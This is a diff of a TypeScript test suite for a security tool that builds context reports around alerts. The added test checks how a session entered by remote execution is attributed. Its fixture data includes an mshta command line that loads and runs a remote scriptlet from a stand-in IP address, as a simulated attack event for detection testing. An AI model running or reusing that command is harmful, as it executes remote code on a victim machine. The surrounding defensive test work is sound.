@@ -84,6 +84,9 @@ describe('context follows the alert: relation, churn, cold start, families, burs
     p('10:05:20.000', 3108, 3104, `${S}\\whoami.exe`, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'whoami /all', ...machine, srv);
     // a DCOM object's process lands in the desktop user's session: explorer starts it
     p('10:05:01.000', 3120, 2900, `${S}\\mshta.exe`, 'C:\\Windows\\explorer.exe', 'mshta.exe vbscript:Close(Execute("GetObject(""script:http://198.51.100.7/a"")"))', '0xd5e5', 'CONTOSO\\dana', srv);
+    // the desktop user's own work before and after: her tray application's start-up, a tool she runs later
+    p('10:04:30.000', 3116, 2900, 'C:\\Users\\dana\\AppData\\Local\\Vendor\\traytool.exe', 'C:\\Windows\\explorer.exe', '"C:\\Users\\dana\\AppData\\Local\\Vendor\\traytool.exe" --startup --minimized', '0xd5e5', 'CONTOSO\\dana', srv);
+    p('10:05:40.000', 3124, 2900, 'C:\\Users\\dana\\AppData\\Local\\Temp\\tool7.exe', 'C:\\Windows\\explorer.exe', '"C:\\Users\\dana\\AppData\\Local\\Temp\\tool7.exe" /quiet', '0xd5e5', 'CONTOSO\\dana', srv);
     p('10:05:30.000', 3112, 900, `${S}\\defrag.exe`, `${S}\\svchost.exe`, 'defrag.exe C: /O /H /U /V /X /Q', ...machine, srv);
     const logons = [{ event_id: 'rel-netlogon', ts: at('10:05:00.000'), host: srv, user_name: 'mallory', user_domain: 'CONTOSO', logon_id: '0xbad5e55', logon_type: 3, source_ip: '10.10.0.66', source_host: 'WKS-0066', outcome: 'success' }];
     const rows = procs.map((x) => ({
@@ -100,6 +103,8 @@ describe('context follows the alert: relation, churn, cold start, families, burs
       { alert_id: 'rel-process', ts: at('10:00:21'), alert_name: 'Suspicious rundll32 execution', severity: 'High', host: wks, process_id: 5016 },
       { alert_id: 'rel-cold', ts: at('10:00:02'), alert_name: 'Suspicious mshta execution', severity: 'High', host: 'wks-new', user_name: 'mallory', logon_id: '0xc01d' },
       // An alert on the network logon alone: no process.
+      // An alert on the DCOM object's process, in the desktop user's session.
+      { alert_id: 'rel-entered', ts: at('10:05:01'), alert_name: 'Suspicious mshta execution', severity: 'High', host: srv, user_name: 'dana', logon_id: '0xd5e5', process_id: 3120 },
       { alert_id: 'rel-remote', ts: at('10:05:02'), alert_name: 'Service installed from a network logon', severity: 'Medium', host: srv, user_name: 'mallory', logon_id: '0xbad5e55' },
     ];
     // The day's folder of the fleet, a subfolder of canonical files named after their tables.
@@ -178,6 +183,19 @@ describe('context follows the alert: relation, churn, cold start, families, burs
     const off = await makeContextReports(db, day, day, resolveThresholds({ windows: { remote_exec_seconds: 0 } }));
     const offReport = (await readReports(db, off.runId)).find((x) => x.alert_id === 'rel-remote');
     expect((offReport?.items ?? []).filter((i) => /network logon/.test(i.reason))).toEqual([]);
+  });
+
+  it('takes a session entered by remote execution from the entry on: the desktop user\'s earlier work is not the alert\'s', async () => {
+    const r = report('rel-entered')!;
+    expect(item(r, 'mshta.exe vbscript')!.reason).toMatch(/^the alert process; started by explorer\.exe 1\.0 s after network logon 0xbad5e55; /);
+    // what the session ran after the entry is the alert's; what it ran before is the user's
+    expect(item(r, 'tool7.exe')!.reason).toMatch(/^in the alert's logon session 0xd5e5; /);
+    expect((item(r, 'traytool.exe')?.reason ?? '')).not.toMatch(/^in the alert's logon session 0xd5e5;/);
+    // with windows.remote_exec_seconds 0 nothing enters the session: the tray tool is the session's again
+    const off = await makeContextReports(db, day, day, resolveThresholds({ windows: { remote_exec_seconds: 0 } }));
+    const offReport = (await readReports(db, off.runId)).find((x) => x.alert_id === 'rel-entered')!;
+    expect(item(offReport, 'traytool.exe')!.reason).toMatch(/^in the alert's logon session 0xd5e5; /);
+    expect(item(offReport, 'mshta.exe vbscript')!.reason).not.toMatch(/network logon/);
   });
 
   it('does not report a logon-script burst that the whole fleet runs every morning', () => {
